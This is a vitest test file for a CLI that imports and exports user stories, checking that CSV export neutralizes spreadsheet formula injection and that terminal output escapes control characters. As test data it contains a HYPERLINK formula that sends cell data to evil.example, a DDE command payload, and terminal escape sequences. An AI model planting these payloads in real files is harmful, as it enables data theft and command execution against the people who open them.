/**
 * Hostile text in story files: CSV cells a spreadsheet would run as formulas are neutralized on
 * export (and restored exactly on import); the CLI never sends control characters to a terminal.
 */

import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { sql } from "kysely";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { runCli } from "../../../src/cli/index.js";
import { decodeStories, encodeStories } from "../../../src/cli/story-files.js";
import { terminalSafe } from "../../../src/cli/terminal-text.js";
import type { StoryRecord } from "../../../src/domain/story-transfer.js";
import { openTestDatabaseAt, tempDatabasePath } from "../../support/db.js";
import { storyRecord } from "../../support/story-records.js";

const meta = { teamId: "T1", at: new Date(0) };
const DANGEROUS = ["=", "+", "-", "@", "\t", "\r"];

describe("CSV formula injection", () => {
  it("no exported cell starts with a character a spreadsheet evaluates", () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      "+1+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(A1:A9)",
      "\t=1",
      "\r=1",
    ];
    const csv = encodeStories(
      hostile.map((title, i) =>
        storyRecord({
          number: i + 1,
          title,
          persona: title,
          want: title,
          acceptance_criteria: [title],
          labels: [title],
        }),
      ),
      "csv",
      meta,
    );
    const cells = (parse(csv, { bom: true }) as string[][]).slice(1).flat();
    const risky = cells.filter((c) => DANGEROUS.some((d) => c.startsWith(d)));
    expect(risky).toEqual([]);
    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(cells).toContain("'-2+3");
  });

  it("round-trips values that start with formula characters or quotes exactly (property)", () => {
    const prefix = fc
      .array(fc.constantFrom("'", ...DANGEROUS, "a", " "), { maxLength: 4 })
      .map((a) => a.join(""));
    fc.assert(
      fc.property(prefix, fc.string({ unit: "grapheme" }), prefix, (p, rest, q) => {
        const title = `${p}${rest}`;
        const persona = `${q}x`;
        const [row] = decodeStories(
          encodeStories([storyRecord({ title, persona, labels: [`${q}l`] })], "csv", meta),
          "csv",
        );
        expect(row?.title).toBe(title);
        expect(row?.persona).toBe(persona);
        expect(row?.labels).toBe(`${q}l`);
      }),
    );
  });

  it("a title starting with - survives export → import through the CLI", async () => {
    const tmp = tempDatabasePath();
    try {
      const err: string[] = [];
      const io = {
        stdout: () => undefined,
        stderr: (s: string) => err.push(s),
        env: { DATABASE_URL: tmp.path },
      };
      const dir = tmp.dir;
      writeFileSync(join(dir, "in.csv"), 'title,persona,want\n"-1 day lead time","=ops","@team"\n');
      expect(await runCli(["import", "--team", "T0001", "--file", join(dir, "in.csv")], io)).toBe(0);
      expect(await runCli(["export", "--team", "T0001", "--out", join(dir, "out.csv")], io)).toBe(0);
      const exported = readFileSync(join(dir, "out.csv"), "utf8");
      expect(exported).toContain("'-1 day lead time");
      expect(await runCli(["import", "--team", "T0002", "--file", join(dir, "out.csv")], io)).toBe(0);
      expect(
        await runCli(["export", "--team", "T0002", "--format", "json", "--out", join(dir, "o.json")], io),
      ).toBe(0);
      const [story] = (JSON.parse(readFileSync(join(dir, "o.json"), "utf8")) as { stories: StoryRecord[] })
        .stories;
      expect(story).toMatchObject({ title: "-1 day lead time", persona: "=ops", want: "@team" });
    } finally {
      tmp.cleanup();
    }
  });
});

describe("terminal output", () => {
  let tmp: ReturnType<typeof tempDatabasePath>;
  beforeEach(() => {
    tmp = tempDatabasePath();
  });
  afterEach(() => tmp.cleanup());

  it("escapes control characters from an imported file in the report", async () => {
    const err: string[] = [];
    const io = {
      stdout: () => undefined,
      stderr: (s: string) => err.push(s),
      env: { DATABASE_URL: tmp.path },
    };
    const file = join(tmp.dir, "evil.csv");
    writeFileSync(file, "title,persona,want,status\nX,u,w,\x1b]0;pwned\x07\x1b[2J\u202edone\n");
    expect(await runCli(["import", "--team", "T0001", "--file", file], io)).toBe(1);
    const report = err.join("");
    expect(report).toContain("row 1:");
    expect(report).toContain('status: "\\x1b]0;pwned\\x07\\x1b[2j'); // the reason quotes the first 20 characters
    // biome-ignore lint/suspicious/noControlCharactersInRegex: checking none got through
    expect(report).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f\u202e]/);
  });

  it("escapes exported text shown on a terminal, and keeps piped output byte-exact", async () => {
    // Import strips control characters, but a database can hold older or hand-written text.
    const title = "Red \x1b[31malert\x1b[0m";
    const db = await openTestDatabaseAt(tmp.path);
    await sql`insert into stories (team_id, number, title, rank, created_by, created_at, updated_at)
      values ('T0001', 1, ${title}, 1, 'U1', '2026-11-28T12:00:00.000Z', '2026-11-28T12:00:00.000Z')`.execute(
      db.db,
    );
    await db.dispose();
    const quiet = { stderr: () => undefined, env: { DATABASE_URL: tmp.path } };
    const shown: string[] = [];
    await runCli(["export", "--team", "T0001", "--format", "csv"], {
      ...quiet,
      stdout: (s) => shown.push(s),
      stdoutIsTTY: true,
    });
    expect(shown.join("")).not.toContain("\x1b");
    expect(shown.join("")).toContain("Red \\x1b[31malert\\x1b[0m");
    const piped: string[] = [];
    await runCli(["export", "--team", "T0001", "--format", "csv"], {
      ...quiet,
      stdout: (s) => piped.push(s),
    });
    expect(decodeStories(piped.join(""), "csv")[0]?.title).toBe(title);
    expect(terminalSafe("tab\tand\nnewline stay")).toBe("tab\tand\nnewline stay");
  });
});
